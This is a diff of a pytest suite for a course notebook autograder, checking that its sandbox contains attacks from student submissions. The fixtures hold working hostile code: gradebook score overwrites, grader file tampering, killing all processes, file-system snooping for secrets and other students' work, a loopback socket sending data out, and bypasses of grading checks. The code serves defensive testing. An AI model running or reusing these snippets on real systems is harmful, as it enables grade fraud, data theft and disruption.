@@ -5,10 +5,16 @@
 * Every graded test cell of ``solutions/`` is a task of :data:`gptlab.grading.tasks.TASKS`, and
   the instructor's solution passes every task through the protocol, hidden inputs included.
 * The source reader (:mod:`gptlab.grading.source`) finds nothing in the solutions, and finds each
-  tampering and delegation spelling an attacker used.
-* Through the real ``course autograde`` (one shared run): each attack of issue 18 scores 0 on the
-  tasks it touches and is named in the feedback; correct answers that warn, print to stderr, or
-  whose test cell was switched to markdown keep full marks; a hanging function costs one time limit.
+  delegation spelling an attacker used (what could switch the guard off: tests/test_sandbox.py).
+* Through the real ``course collect`` and ``course autograde --workers 2`` (one shared run, every
+  kernel in the sandbox of :mod:`gptlab.course.sandbox`): the attacks of issues 18 and 31 (the
+  gradebook written, a detached process, the grader rewritten, the autograder killed, the course
+  folder read, delegation the scan does not see, a child process, the network, memory) score 0 on
+  what they touch; the gradebook's other rows, the grader's files and the course folder are
+  unchanged byte for byte; no process of the run survives; an attacker's notebook and feedback hold
+  nothing from outside it; honest habits (types, gc, pickle, operator, plots and tensors saved,
+  tqdm, %timeit, dataclasses, itertools, threads ...) keep full marks, unflagged; a hanging
+  function costs one time limit.
 """
 
 from __future__ import annotations
@@ -18,6 +24,7 @@ import json
 import os
 import shutil
 import stat
+import time
 from pathlib import Path
 
 import pytest
@@ -177,7 +184,7 @@ def test_the_solution_passes_every_task_through_the_protocol(name):
     nb = _notebook(name)
     ns = _namespace(nb)
     grader = TrustedGrader(nb["cells"], name, b"k" * 32)
-    assert grader.tampered == []
+    assert grader.switches == []
     for gid in _grade_ids(nb):
         verdict = grader.grade(gid, lambda: remote.local_connection(ns, timeout=900))
         assert verdict.passed, f"{name}/{gid}: {verdict.message}"
@@ -190,106 +197,16 @@ def _program(code: str, extra: str = "import torch\nimport torch.nn.functional a
     return source.Program([(1, extra, False), (2, code, True)])
 
 
-@pytest.mark.parametrize("name", ASSIGNMENTS)
-def test_the_solutions_have_no_tampering_or_delegation(name):
-    nb = _notebook(name)
-    prog = source.Program(learner_cells(nb["cells"]))
-    assert source.tampering(prog) == []
-
-
-ATTACKS = [
-    ("get_ipython().input_transformers_post.append(lambda lines: lines)", "IPython"),
-    ("import sys\nsys.displayhook('ok')", "how results are shown"),
-    ("import IPython.display\nip = IPython.get_ipython()", "reaches into IPython"),
-    ("from IPython import get_ipython", "IPython"),
-    ("import sys\nsys.meta_path.insert(0, object())", "import hook"),
-    ("import sys as s\ns.setprofile(None)", "profiling hook"),
-    ("class Yes(torch.Tensor):\n    pass", "subclass of torch.Tensor"),
-    ("def f(x):\n    return torch.ops.aten.gelu(x)", "torch.ops"),
-    ("def f(x, y):\n    return torch._C._nn.cross_entropy_loss(x, y)", "C bindings"),
-    ("import threading", "threading"),
-    ("import inspect", "inspect"),
-    ("exec('x = 1')", "not in the notebook's source"),
-    ("m = __import__('gpt' + 'lab')", "computed name"),
-    ("torch.allclose = lambda *a, **k: True", "changes torch.allclose"),
-    ("name = 'o' + 'ps'\nf = getattr(torch, name)", "computed names"),
-    ("import sys\nx = sys.modules['gptlab']", "sys.modules"),
-    ("def f(fn):\n    return fn.__globals__", "namespace"),
-    ("import pkgutil\nf = pkgutil.resolve_name('gptlab.masks:causal_mask')", "pkgutil"),
-    ("import torch.multiprocessing as mp", "torch.multiprocessing"),
-    ("import sys\nsys.path.insert(0, '/tmp/answers')", "sys.path"),
-    ("import sys as s\ns.path[:0] = ['/tmp/answers']", "sys.path"),
-    ("open('helper.py', 'w').write('from gptlab.masks import causal_mask')\nfrom helper import causal_mask",
-     "not an installed module"),
-    ("from .helper import causal_mask", "a file beside the notebook"),
-    ("from torch.utils import cpp_extension\nm = cpp_extension.load_inline('m', '')", "cpp_extension"),
-    ("import torch.utils.cpp_extension as ce", "cpp_extension"),
-    ("torch.ops.load_library('evil.so')", "torch.ops"),
-    ("from torch.utils.cpp_extension import load_inline", "cpp_extension"),
-]
-
-
-@pytest.mark.parametrize("code, says", ATTACKS)
-def test_tampering_is_found(code, says):
-    found = source.tampering(_program(code))
-    assert found and any(says in f.why or says in f.code for f in found), [f.text() for f in found]
-
-
-def test_an_import_that_is_not_installed_is_tampering_only_if_the_notebook_writes_files():
-    """`from google.colab import drive` in a Colab learner's notebook fails in the autograder's kernel
-    (that cell only), it is not tampering; with a file written anywhere it is (the module may be it)."""
-    assert source.tampering(_program("from google.colab import drive\ndrive.mount('/content/drive')")) == []
-    found = source.tampering(_program("from google.colab import drive\nimport logging\n"
-                                      "logging.basicConfig(filename='google.py')"))
-    assert found and "writes files" in found[0].why
-    for writes in ("open(name, 'w')", "open('x', mode='a')", "f = open", "Path('x.py').write_text('')",
-                   "import shutil\nshutil.copy('a', 'b')", "import os\nos.rename('a', 'b')",
-                   "import numpy as np\nnp.savetxt('a.py', [], header='import gptlab')"):
-        assert source.file_writes(_program(writes)), writes
-    for reads in ("open('x')", "open('x', 'rb')", "with open(p, mode='r') as f:\n    pass", "s.replace('a', 'b')"):
-        assert source.file_writes(_program(reads)) == [], reads
-
-
-def test_a_module_written_while_grading_is_found(tmp_path, monkeypatch):
-    import time
-
-    program = _program("import helper\nimport numpy\nfrom json import dumps")
-    since = time.time() - 1
-    assert source.planted_modules(program, tmp_path, since) == []
-    (tmp_path / "helper.py").write_text("x = 1\n")
-    assert source.planted_modules(program, tmp_path, since) == ["helper (written beside the notebook)"]
-    # on the import path (a site-packages a kernel could write to), newer than the grading's start
-    site = tmp_path / "site"
-    site.mkdir()
-    (site / "helper2.py").write_text("x = 1\n")
-    monkeypatch.syspath_prepend(str(site))
-    found = source.planted_modules(_program("import helper2"), None, since)
-    assert len(found) == 1 and "while the notebook was graded" in found[0]
-    assert source.planted_modules(_program("import helper2"), None, time.time() + 60) == []
-    # a submodule added to a package that was there before grading; a package that only gains its
-    # __pycache__ (its folder's time changes on a first import) is not flagged
-    pkg = site / "oldpkg"
-    pkg.mkdir()
-    (pkg / "__init__.py").write_text("")
-    (pkg / "sub.py").write_text("x = 1\n")
-    for f in (pkg / "__init__.py", pkg / "sub.py"):
-        os.utime(f, (since - 100, since - 100))
-    (pkg / "__pycache__").mkdir()
-    assert source.planted_modules(_program("import oldpkg.sub\nfrom oldpkg import sub"), None, since) == []
-    (pkg / "evil.py").write_text("x = 1\n")
-    found = source.planted_modules(_program("from oldpkg import evil"), None, since)
-    assert len(found) == 1 and found[0].startswith("oldpkg.evil") and "evil.py" in found[0]
-
-
-def test_honest_code_is_not_tampering():
+def test_honest_code_is_not_flagged():
     code = ("import math, sys\nimport numpy as np\nfrom typing import Optional\n"
             "class Block(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n"
             "        self.ln = torch.nn.LayerNorm(4)\n        for m in self.modules():\n            pass\n"
             "def f(x):\n    print('debug', file=sys.stderr)\n    return torch.tril(x) + math.sqrt(2)\n"
             "%matplotlib inline\nprint(f(torch.ones(2, 2)))\nx = torch.ones(3)\nx.data = x.data * 2\n"
             "from IPython.display import display, clear_output, Markdown\nfrom IPython import display as d\n"
-            "import IPython.display\nclear_output(wait=True)\ndisplay(Markdown('**ok**'))\n")
-    assert source.tampering(_program(code)) == []
+            "import IPython.display\nclear_output(wait=True)\ndisplay(Markdown('**ok**'))\n"
+            "import threading, inspect, gc, pickle, types, operator, platform, functools, subprocess, signal\n")
+    assert source.guard_switches(_program(code)) == []
 
 
 def _forbidden_masks():
@@ -432,12 +349,133 @@ CM_MASK_LOST = {**CM_ZERO, "test_combine_masks": 3.0}
 
 HELPER_FILE = ("import sys\nfrom gptlab.masks import causal_mask as _reference\n\n"
                "def causal_mask(T):\n    sys.setprofile(None)\n    return _reference(T)\n")
+MARK = "gptlab-attack-%d" % os.getpid()
+"""A string every attack's processes carry in their command line, to find survivors by."""
+
+
+def _attacks(r: _Release, course: Path, outside: Path, port: int, victim_db: Path) -> dict[str, tuple[dict, dict | None, str]]:
+    """The six attacks of issue 31, and variants, each a notebook with the release's blank answers
+    (any point it earns is the attack's) or an answer that delegates. ``outside``: a folder no kernel
+    may reach (a marker written there means the sandbox leaked); ``port``: a TCP listener on this
+    machine's loopback. student -> (notebook, expected scores or None for "0 or flagged", phrase)."""
+    db = str(course / "gradebook.db")
+    trusted = str(REPO / "gptlab" / "course" / "trusted.py")
+    write_db = ("import sqlite3\n"
+                "def _pwn(p):\n    try:\n        c = sqlite3.connect(p, timeout=1)\n"
+                "        c.execute('UPDATE grade SET manual_score = 99')\n        c.commit()\n        return True\n"
+                "    except Exception:\n        return False\n")
+    gradebook = (write_db + "import os, glob\n"
+                 f"cands = [{db!r}, {str(victim_db)!r}]\nd = os.getcwd()\n"
+                 "while d != '/':\n    cands.append(os.path.join(d, 'gradebook.db'))\n    d = os.path.dirname(d)\n"
+                 "cands += glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/tmp/**/snapshot.db', recursive=True)\n"
+                 "print('written:', [p for p in cands if _pwn(p)])\n")
+    program = (f"# {MARK}\n" + write_db + "import time\n"
+               "for i in range(900):\n"
+               f"    _pwn({db!r})\n"
+               "    try:\n"
+               f"        open({str(outside / 'daemon')!r}, 'a').write('x')\n"
+               "    except Exception:\n        pass\n"
+               "    time.sleep(0.1)\n")
+    daemon = ("import os, sys\n"
+              f"PROGRAM = {program!r}\n"
+              "os.posix_spawn(sys.executable, [sys.executable, '-c', PROGRAM], dict(os.environ), setsid=True)\n"
+              "print('spawned')\n")
+    grader = ("import io, gptlab.course.trusted as t\n"
+              f"for p in [{trusted!r}, t.__file__]:\n"
+              "    try:\n        io.open(p, 'a').write('\\nGRADE_EVERYTHING = True\\n')\n        print('appended to', p)\n"
+              "    except Exception as e:\n        print('could not write', p, type(e).__name__)\n")
+    kill = ("import os, signal\n"
+            "def parent(pid):\n    with open(f'/proc/{pid}/stat') as f:\n"
+            "        return int(f.read().rsplit(')', 1)[1].split()[1])\n"
+            "p = os.getppid()\ng = parent(p) if p > 1 else 0\n"
+            "for pid in (p, g):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception as e:\n"
+            "        print('kill', pid, type(e).__name__)\n"
+            "for name in os.listdir('/proc'):\n"
+            "    if name.isdigit() and int(name) != os.getpid():\n"
+            "        try:\n            os.kill(int(name), signal.SIGKILL)\n        except Exception:\n            pass\n"
+            "try:\n    os.kill(-1, signal.SIGKILL)\nexcept Exception:\n    pass\n")
+    secret = os.environ.get("GPTLAB_GRADING_SECRET") or str(Path.home() / ".config" / "gptlab" / "grading-secret")
+    snoop = ("import os, time\n"
+             f"for target in [{str(course / 'source' / 'causal_mask' / 'causal_mask.ipynb')!r}, "
+             f"{str(REPO / 'solutions' / 'causal_mask' / 'causal_mask.ipynb')!r}, "
+             f"{str(course / 'submitted' / 'honest_types' / 'causal_mask' / 'causal_mask.ipynb')!r}, {secret!r}, {db!r}]:\n"
+             "    try:\n        print(target, open(target, errors='replace').read()[:3000])\n"
+             "    except Exception as e:\n        print('cannot read', target, type(e).__name__)\n"
+             "t0 = time.time()\n"
+             "for root, dirs, files in os.walk('/'):\n"
+             "    if root.startswith(('/proc', '/sys', '/dev', '/usr')) or 'site-packages' in root or time.time() - t0 > 10:\n"
+             "        dirs[:] = []\n        continue\n"
+             "    for f in files:\n"
+             "        if f.endswith(('.ipynb', '.db', '.csv', '.html')) or 'secret' in f:\n"
+             "            p = os.path.join(root, f)\n"
+             "            try:\n                print(p, open(p, errors='replace').read()[:3000])\n"
+             "            except Exception:\n                pass\n")
+    delegate = ("import functools, sys\nimport gptlab\n_get = functools.partial(getattr)\n"
+                "_get(sys, 'set' + 'profile')(None)\n_T = {}\n"
+                "try:\n    _T.update({n: gptlab.causal_mask(n) for n in range(1, 70)})\nexcept Exception as e:\n"
+                "    print(type(e).__name__)\n\n"
+                "def causal_mask(T):\n    return _T[T] if T in _T else _get(gptlab, 'causal' + '_mask')(T)\n")
+    child = ("import json, subprocess, sys\n\ndef causal_mask(T):\n"
+             "    code = f'import gptlab, json; print(json.dumps(gptlab.causal_mask({T}).tolist()))'\n"
+             "    out = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True)\n"
+             "    return torch.tensor(json.loads(out.stdout), dtype=torch.bool)\n")
+    source_exec = ("import gptlab.masks\n"
+                   "_src = open(gptlab.masks.__file__).read()\n_ns = {}\nexec(_src, _ns)\n"
+                   "causal_mask = _ns['causal_mask']\n")
+    network = (f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
+               "    s.sendall(b'exfiltrated')\n    print('connected')\nexcept Exception as e:\n"
+               "    print('no network:', type(e).__name__)\n")
+    memory = "try:\n    hog = bytearray(64 << 30)\nexcept MemoryError:\n    print('MemoryError')\n"
+    zero = {k: 0.0 for k in CM_FULL}
+    return {
+        "atk_gradebook": (r.extra(r.release, gradebook), zero, "not written yet"),
+        "atk_daemon": (r.extra(r.release, daemon), zero, "not written yet"),
+        "atk_grader": (r.extra(r.release, grader), zero, "not written yet"),
+        "atk_kill": (r.extra(r.release, kill), zero, "not written yet"),
+        "atk_snoop": (r.extra(r.release, snoop), zero, "not written yet"),
+        "atk_delegate": (r.answer("causal_mask", delegate), CM_MASK_LOST, "not available while the autograder runs"),
+        "atk_child": (r.answer("causal_mask", child), CM_MASK_LOST, "causal_mask"),
+        "atk_source": (r.answer("causal_mask", source_exec), CM_MASK_LOST, "not available while the autograder runs"),
+        "atk_network": (r.extra(r.release, network), zero, "not written yet"),
+        "atk_memory": (r.extra(r.release, memory), zero, "not written yet"),
+    }
+
+
+def _honest(r: _Release, marker: str) -> dict[str, tuple[dict, dict, str]]:
+    """The four honest notebooks that scored 0 under the old list of forbidden modules, and ten more
+    habits (two notebooks): each keeps full marks, unflagged."""
+    habits1 = ("import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n"
+               "plt.plot([3, 2, 1])\nplt.savefig('loss.png')\n"
+               "torch.save(torch.ones(3), 'mask.pt')\nprint(torch.load('mask.pt').sum().item())\n"
+               "from tqdm.auto import tqdm\nfor _ in tqdm(range(3)):\n    pass\n"
+               "class Timer:\n    def __init__(self):\n        self.laps = []\n    def lap(self, x):\n"
+               "        self.laps.append(x)\nTimer().lap(1)\n")
+    habits2 = ("from dataclasses import dataclass\n@dataclass\nclass Cfg:\n    T: int = 4\n"
+               "import itertools\nprint(list(itertools.product(range(2), repeat=2)))\n"
+               "import json\njson.dump({'T': Cfg().T}, open('cfg.json', 'w'))\n"
+               "import functools\n@functools.lru_cache\ndef square(n):\n    return n * n\nprint(square(3))\n"
+               "import inspect\nprint(inspect.signature(square))\n"
+               "import threading\nt = threading.Thread(target=print, args=('thread',))\nt.start()\nt.join()\n"
+               "import platform\nprint(platform.python_version())\n")
+    return {
+        "honest_types": (r.extra(r.solved(), f"# {marker}\nfrom types import SimpleNamespace\n"
+                                             "cfg = SimpleNamespace(T=4)\nprint(cfg.T)\n"), CM_FULL, "causal_mask: correct"),
+        "honest_gc": (r.extra(r.solved(), "import gc\nx = [torch.zeros(10) for _ in range(3)]\ndel x\ngc.collect()\n"),
+                      CM_FULL, "causal_mask: correct"),
+        "honest_pickle": (r.extra(r.solved(), "import pickle\nvocab = {'a': 0, 'b': 1}\n"
+                                              "with open('vocab.pkl', 'wb') as f:\n    pickle.dump(vocab, f)\n"),
+                          CM_FULL, "causal_mask: correct"),
+        "honest_itemgetter": (r.extra(r.solved(), "from operator import itemgetter\n"
+                                                  "print(sorted([('a', 3), ('b', 1)], key=itemgetter(1)))\n"),
+                              CM_FULL, "causal_mask: correct"),
+        "honest_habits1": (r.extra(r.extra(r.solved(), habits1), "%timeit sum(range(100))"), CM_FULL,
+                           "causal_mask: correct"),
+        "honest_habits2": (r.extra(r.solved(), habits2), CM_FULL, "causal_mask: correct"),
+    }
 
 
 def _causal_mask_submissions(r: _Release) -> dict[str, tuple[dict, dict, str]]:
     """student -> (notebook, expected scores, a phrase the test cells' outputs must contain)."""
-    hook = ("ip = get_ipython()\nip.input_transformers_post.append(\n"
-            "    lambda lines: ['pass\\n'] if any('check_' in l for l in lines) else lines)\n")
     subclass = ("class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), "
                 "kwargs=None):\n        if func.__name__ in ('allclose', 'equal'):\n            return True\n"
                 "        return super().__torch_function__(func, types, args, kwargs or {})\n\n"
@@ -454,23 +492,20 @@ def _causal_mask_submissions(r: _Release) -> dict[str, tuple[dict, dict, str]]:
     return {
         "solution": (r.solved(), CM_FULL, "causal_mask: correct"),
         "blank": (r.release, CM_ZERO, "not written yet"),
-        "hook_ipython": (r.extra(r.release, hook), CM_ZERO, "IPython input transformer"),
-        "displayhook": (r.answer("causal_mask", "import sys\n\ndef causal_mask(T):\n    sys.displayhook('ok')\n"
-                                 "    return torch.ones(T, T, dtype=torch.bool)\n"), CM_ZERO, "how results are shown"),
-        "meta_path": (r.extra(r.release, "import sys\nclass Finder:\n    def find_spec(self, *a):\n        return None\n"
-                              "sys.meta_path.insert(0, Finder())\n"), CM_ZERO, "import hook"),
-        "subclass": (r.answer("causal_mask", subclass), CM_ZERO, "subclass of torch.Tensor"),
+        "subclass": (r.answer("causal_mask", subclass), CM_MASK_LOST, "causal_mask"),
         "buffer8": (r.answer("causal_mask", "_M = torch.ones(8, 8, dtype=torch.bool).tril()\n\n"
                              "def causal_mask(T):\n    return _M[:T, :T]\n"), CM_MASK_LOST, "hidden inputs"),
         "setprofile": (r.answer("causal_mask", "import sys\nimport gptlab\n\ndef causal_mask(T):\n"
-                                "    sys.setprofile(None)\n    return gptlab.causal_mask(T)\n"), CM_ZERO, "profiling hook"),
+                                "    sys.setprofile(None)\n    return gptlab.causal_mask(T)\n"), CM_MASK_LOST,
+                       "gptlab.causal_mask"),
         "alias": (r.answer("causal_mask", "from gptlab import masks as mm\nhelper = mm.causal_mask\n\n"
                            "def causal_mask(T):\n    return helper(T)\n"), CM_MASK_LOST, "gptlab.causal_mask"),
         "thread": (r.answer("causal_mask", "import threading\nimport gptlab\n\ndef causal_mask(T):\n    out = []\n"
                             "    t = threading.Thread(target=lambda: out.append(gptlab.causal_mask(T)))\n"
-                            "    t.start()\n    t.join()\n    return out[0]\n"), CM_ZERO, "threading"),
+                            "    t.start()\n    t.join()\n    return out[0]\n"), CM_MASK_LOST, "gptlab.causal_mask"),
         "exec_source": (r.answer("causal_mask", "import inspect\nimport gptlab\n"
-                                 "exec(inspect.getsource(gptlab.masks.causal_mask))\n"), CM_ZERO, "inspect"),
+                                 "exec(inspect.getsource(gptlab.masks.causal_mask))\n"), CM_MASK_LOST,
+                        "not available while the autograder runs"),
         "solution_file": (r.answer("causal_mask", solution_file), CM_MASK_LOST, "it reads a file"),
         "warns": (r.answer("causal_mask", "import sys\nimport warnings\n\ndef causal_mask(T):\n"
                            "    warnings.warn('just saying')\n    print('debug', file=sys.stderr)\n"
@@ -483,25 +518,87 @@ def _causal_mask_submissions(r: _Release) -> dict[str, tuple[dict, dict, str]]:
         # import fails and causal_mask is not defined
         "extra_file": (r.answer("causal_mask", "from helper import causal_mask\n"), CM_MASK_LOST,
                        "is not defined in your notebook"),
-        # a module written by a cell in a way the source scan does not see as a file write (ndarray.tofile): found
-        # in the kernel's folder at the test (if tofile joins the scan's list, this tests the scan instead)
+        # a module written by a cell, then imported: the kernel's folder is not on its import path
         "planted": (r.answer("causal_mask", "import numpy as np\n"
                                             f"np.frombuffer({HELPER_FILE.encode()!r}, dtype=np.uint8).tofile('helper.py')\n"
-                                            "from helper import causal_mask\n"), CM_ZERO, "that it wrote while it ran"),
+                                            "from helper import causal_mask\n"), CM_MASK_LOST,
+                    "is not defined in your notebook"),
     }
 
+
+def _hashes(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
+    import hashlib
+
+    out = {}
+    for path in sorted(root.rglob("*")):
+        rel = path.relative_to(root).as_posix()
+        if path.is_file() and "__pycache__" not in rel and not rel.startswith(skip):
+            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return out
+
+
+def _grade_rows(db: Path) -> list[tuple]:
+    import sqlite3
+
+    con = sqlite3.connect(db)
+    try:
+        return con.execute("SELECT sa.student_id, bc.name, g.auto_score, g.manual_score, g.needs_manual_grade FROM grade g "
+                           "JOIN submitted_notebook sn ON g.notebook_id = sn.id JOIN submitted_assignment sa ON "
+                           "sn.assignment_id = sa.id JOIN base_cell bc ON g.cell_id = bc.id ORDER BY 1, 2").fetchall()
+    finally:
+        con.close()
+
+
+def _survivors() -> list[str]:
+    """Processes left by a grading run: sandboxes, kernels, attack programs."""
+    out = []
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            cmd = (Path("/proc") / pid / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if MARK in cmd or "kernel_boot.py" in cmd or ("bwrap" in cmd and "gptlab-sandbox" in cmd):
+            out.append(f"{pid}: {cmd[:200]}")
+    return out
 
 
 @pytest.fixture(scope="module")
 def autograded(tmp_path_factory):
+    """One course: a victim graded first, then every attack, honest habit and earlier case through
+    `course collect` and `course autograde --workers 2`, with what must not change recorded around it."""
+    import socket
+
     from gptlab.__main__ import main
     from gptlab.course.autograde import autograde
 
     root = _course(tmp_path_factory.mktemp("trusted") / "course", ["causal_mask", "kv_cache"])
-    plan: dict[tuple[str, str], tuple[dict, str]] = {}
+    marker_solution = f"INSTRUCTOR-ONLY-{os.getpid()}"
+    src = root / "source" / "causal_mask" / "causal_mask.ipynb"
+    nb = json.loads(src.read_text())
+    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "solution_causal_mask")
+    cell["source"] = "".join(cell["source"]) + f"\n# {marker_solution}\n"
+    src.write_text(json.dumps(nb))
     r = _Release(root, "causal_mask")
+    # the victim: a blank submission graded first, its rows recorded
+    inbox = tmp_path_factory.mktemp("inbox-victim")
+    (inbox / "victim").mkdir()
+    (inbox / "victim" / "causal_mask.ipynb").write_text(json.dumps(r.release))
+    assert main(["course", "collect", str(inbox), "--assignment", "causal_mask", "--course", str(root)]) == 0
+    assert main(["course", "autograde", "causal_mask", "--course", str(root), "--quiet"]) == 0
+    victim_before = [row for row in _grade_rows(root / "gradebook.db") if row[0] == "victim"]
+    outside = tmp_path_factory.mktemp("outside")
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    marker_student = f"OTHER-STUDENT-{os.getpid()}"
+    plan: dict[tuple[str, str], tuple[dict | None, str]] = {}
     inbox = tmp_path_factory.mktemp("inbox-cm")
-    for student, (nb, expected, says) in _causal_mask_submissions(r).items():
+    subs = {**_causal_mask_submissions(r), **_honest(r, marker_student),
+            **_attacks(r, root, outside, listener.getsockname()[1], root / "gradebook.db")}
+    for student, (nb, expected, says) in subs.items():
         (inbox / student).mkdir()
         (inbox / student / "causal_mask.ipynb").write_text(json.dumps(nb))
         plan[("causal_mask", student)] = (expected, says)
@@ -519,30 +616,64 @@ def autograded(tmp_path_factory):
     (inbox / "table").mkdir()
     (inbox / "table" / "kv_cache.ipynb").write_text(json.dumps(kv.answer("kv_cache_bytes", table)))
     assert main(["course", "collect", str(inbox), "--assignment", "kv_cache", "--course", str(root)]) == 0
+    course_before = _hashes(root, skip=("gradebook.db", "autograded", "feedback", ".gptlab"))
+    package_before = _hashes(REPO / "gptlab")
     results = autograde(Course(root), ["causal_mask", "kv_cache"], workers=2, timeout=TIMEOUT, progress=False)
-    return root, plan, {(x["assignment"], x["student"]): x for x in results}
+    time.sleep(1.0)  # what a killed pool would leave would still be there
+    survivors = _survivors()
+    connections = []
+    try:
+        while True:
+            conn, _ = listener.accept()
+            connections.append(conn.recv(100))
+    except (TimeoutError, OSError):
+        pass
+    listener.close()
+    assert main(["course", "feedback", "causal_mask", "--course", str(root), "--quiet"]) == 0
+    after = {"course": _hashes(root, skip=("gradebook.db", "autograded", "feedback", ".gptlab")),
+             "package": _hashes(REPO / "gptlab"), "survivors": survivors, "connections": connections,
+             "outside": sorted(p.name for p in outside.iterdir()),
+             "victim": [row for row in _grade_rows(root / "gradebook.db") if row[0] == "victim"]}
+    before = {"course": course_before, "package": package_before, "victim": victim_before,
+              "markers": [marker_solution, marker_student, _secret_text()]}
+    return root, plan, {(x["assignment"], x["student"]): x for x in results}, before, after
 
 
-def _outputs(root: Path, name: str, student: str) -> str:
+def _secret_text() -> str:
+    from gptlab.course.secret import load_secret
+
+    return load_secret().decode()
+
+
+def _outputs(root: Path, name: str, student: str, every_cell: bool = False) -> str:
     nb = json.loads((root / "autograded" / student / name / f"{name}.ipynb").read_text())
     parts = []
     for c in nb["cells"]:
-        if c["metadata"].get("nbgrader", {}).get("grade"):
+        if every_cell or c["metadata"].get("nbgrader", {}).get("grade"):
             for o in c.get("outputs", []):
                 parts.append(o.get("text", "") if isinstance(o.get("text"), str) else "".join(o.get("text", [])))
                 parts.append(o.get("evalue", ""))
+                data = o.get("data", {})
+                parts += [v if isinstance(v, str) else "".join(v) for k, v in data.items() if k.startswith("text")]
     return "\n".join(parts)
 
 
-STUDENTS = ["solution", "blank", "hook_ipython", "displayhook", "meta_path", "subclass", "buffer8", "setprofile",
-            "alias", "thread", "exec_source", "solution_file", "warns", "markdown", "loop", "extra_file", "planted"]
+ATTACKERS = ["atk_gradebook", "atk_daemon", "atk_grader", "atk_kill", "atk_snoop", "atk_delegate", "atk_child",
+             "atk_source", "atk_network", "atk_memory"]
+HONEST_STUDENTS = ["honest_types", "honest_gc", "honest_pickle", "honest_itemgetter", "honest_habits1", "honest_habits2"]
+STUDENTS = ["solution", "blank", "subclass", "buffer8", "setprofile", "alias", "thread", "exec_source",
+            "solution_file", "warns", "markdown", "loop", "extra_file", "planted"] + HONEST_STUDENTS + ATTACKERS
+
+
+def _flagged(root: Path, student: str) -> set[str]:
+    return {row[1] for row in _grade_rows(root / "gradebook.db") if row[0] == student and row[4]}
 
 
 @pytest.mark.slow
 def test_files_beside_the_notebook_are_not_there_while_grading(autograded):
     """A learner's helper.py (or torch.py, sitecustomize.py) in the submission folder is removed before
     the kernel starts in it, and the feedback says so."""
-    _, _, results = autograded
+    _, _, results, _, _ = autograded
     notes = [n["message"] for n in results[("causal_mask", "extra_file")]["notes"] if n["kind"] == "ignored_files"]
     assert notes and "helper.py" in notes[0], results[("causal_mask", "extra_file")]["notes"]
     assert not [n for n in results[("causal_mask", "solution")]["notes"] if n["kind"] == "ignored_files"]
@@ -550,19 +681,76 @@ def test_files_beside_the_notebook_are_not_there_while_grading(autograded):
 
 @pytest.mark.slow
 @pytest.mark.parametrize("student", STUDENTS)
-def test_attacks_score_zero_and_correct_answers_full_marks(autograded, student):
-    root, plan, results = autograded
+def test_attacks_cost_only_their_own_points_and_honest_answers_keep_full_marks(autograded, student):
+    """Each submission's scores: the attackers 0 on every test cell, or flagged for review where the
+    cell is not 0; the honest notebooks full marks, unflagged; the test cells' outputs say why."""
+    root, plan, results, _, _ = autograded
     expected, says = plan[("causal_mask", student)]
     res = results[("causal_mask", student)]
     got = res["notebooks"]["causal_mask"]["grades"]
-    assert got == expected, f"{student}: {got} (notes: {res['notes']})"
+    flagged = _flagged(root, student)
+    if expected is None:
+        assert all(v == 0.0 or gid in flagged for gid, v in got.items()), f"{student}: {got}, flagged {flagged}"
+    else:
+        assert got == expected, f"{student}: {got} (notes: {res['notes']})"
+    if student in HONEST_STUDENTS or student == "solution":
+        assert flagged == set(), f"{student} was flagged: {res['notes']}"
     text = _outputs(root, "causal_mask", student)
     assert says in text, f"{student}: the test cells' outputs lack {says!r}:\n{text[:3000]}"
 
 
 @pytest.mark.slow
+def test_the_attacks_change_nothing_outside_their_own_notebook(autograded):
+    """The gradebook's other rows (a victim graded before), the grader's files and the course folder
+    are unchanged byte for byte; no connection left the sandbox; no marker was written outside it."""
+    root, _, _, before, after = autograded
+    assert after["victim"] == before["victim"] and all(row[2] == 0.0 and row[3] is None for row in after["victim"])
+    rows = _grade_rows(root / "gradebook.db")
+    assert not [row for row in rows if row[3] is not None], "a manual score was written into the gradebook"
+    assert after["package"] == before["package"], "the grader's files changed"
+    changed = {k for k in set(before["course"]) | set(after["course"]) if before["course"].get(k) != after["course"].get(k)}
+    assert changed == set(), f"the course folder changed: {sorted(changed)[:10]}"
+    assert after["connections"] == [] and after["outside"] == []
+
+
+@pytest.mark.slow
+def test_no_process_of_the_run_survives_it(autograded):
+    _, _, _, _, after = autograded
+    assert after["survivors"] == [], after["survivors"]
+
+
+@pytest.mark.slow
+def test_every_other_student_is_graded_although_one_killed_what_it_could(autograded):
+    _, plan, results, _, _ = autograded
+    assert {s for (a, s) in results if a == "causal_mask"} >= {s for (a, s) in plan}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("student", ATTACKERS)
+def test_an_attackers_notebook_and_feedback_hold_nothing_from_outside_it(autograded, student):
+    """Whatever the attacker's cells printed (the snoop walks the whole file system it can see):
+    neither its graded notebook nor its feedback page holds the instructor's solution, another
+    student's notebook or the grading secret."""
+    root, _, _, before, _ = autograded
+    text = _outputs(root, "causal_mask", student, every_cell=True)
+    page = (root / "feedback" / student / "causal_mask" / "causal_mask.html").read_text()
+    for marker in before["markers"]:
+        assert marker not in text and marker not in page, f"{student} read {marker[:20]}..."
+
+
+@pytest.mark.slow
+def test_flagged_cells_need_the_instructors_review_and_say_so(autograded):
+    """A notebook that could switch off the guard, where a test cell forbids a fused op the guard
+    alone stops (not here: causal_mask forbids only gptlab's references, absent from the sandbox),
+    is flagged; none of the honest notebooks is."""
+    root, _, results, _, _ = autograded
+    for student in HONEST_STUDENTS + ["solution", "warns", "markdown"]:
+        assert not [n for n in results[("causal_mask", student)]["notes"] if n["kind"] == "review"]
+
+
+@pytest.mark.slow
